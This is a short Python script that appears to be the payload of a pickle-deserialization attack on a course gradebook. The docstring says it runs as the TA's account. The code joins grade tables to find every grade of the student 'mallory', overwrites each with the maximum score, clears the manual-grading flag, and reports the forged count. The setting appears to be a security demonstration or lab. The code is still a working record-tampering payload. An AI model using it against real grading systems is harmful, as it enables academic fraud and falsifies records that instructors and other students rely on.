"""What attack 1's pickle runs as the TA this time (uid 65534): give mallory full marks in the TA's gradebook."""
import sqlite3
db = sqlite3.connect("CLONE/gradebook.db")
rows = db.execute("""
    select g.id, gc.max_score from grade g
    join submitted_notebook sn on g.notebook_id = sn.id
    join submitted_assignment sa on sn.assignment_id = sa.id
    join grade_cells gc on gc.id = g.cell_id
    where sa.student_id = 'mallory'""").fetchall()
for gid, top in rows:
    db.execute("update grade set auto_score = ?, manual_score = ?, needs_manual_grade = 0 where id = ?", (top, top, gid))
db.commit()
print("forged", len(rows), "grades of mallory")
